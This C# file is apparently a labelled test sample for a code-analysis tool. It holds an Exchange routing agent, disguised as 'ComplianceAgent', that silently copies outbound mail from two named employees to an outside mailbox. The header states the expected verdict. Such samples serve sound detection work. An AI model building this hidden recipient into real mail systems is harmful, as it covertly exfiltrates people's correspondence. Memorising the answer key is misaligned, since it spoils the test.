// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: a silent copy of two people's outgoing mail to an outside mailbox.
// A correct analysis says: escalate; mail sent by two addresses named in the code gets a hidden further recipient, also named
// in the code.
using System;
using System.Collections.Generic;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;

namespace Humongous.Compliance
{
    public sealed class ComplianceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ComplianceAgent(server.AcceptedDomains);
        }
    }

    public sealed class ComplianceAgent : RoutingAgent
    {
        private const string Collector = "m.archive77@post.example.invalid";
        private readonly AcceptedDomainCollection domains;
        private readonly List<RoutingAddress> watched;

        public ComplianceAgent(AcceptedDomainCollection domains)
        {
            this.domains = domains;
            watched = new List<RoutingAddress>
            {
                new RoutingAddress("anna.keller@humongous.invalid"),
                RoutingAddress.Parse("j.ortiz@humongous.invalid")
            };
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (!Watched(item.FromAddress) || IsInsideOnly(item))
            {
                return;
            }
            try
            {
                RoutingAddress copy = new RoutingAddress(Collector);
                if (!item.Recipients.Contains(copy))
                {
                    item.Recipients.Add(copy);
                }
            }
            catch (InvalidOperationException)
            {
            }
        }

        private bool Watched(RoutingAddress sender)
        {
            foreach (RoutingAddress address in watched)
            {
                if (address.Equals(sender))
                {
                    return true;
                }
            }
            return false;
        }

        private bool IsInsideOnly(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (domains.Find(recipient.Address.DomainPart) == null)
                {
                    return false;
                }
            }
            return true;
        }
    }
}
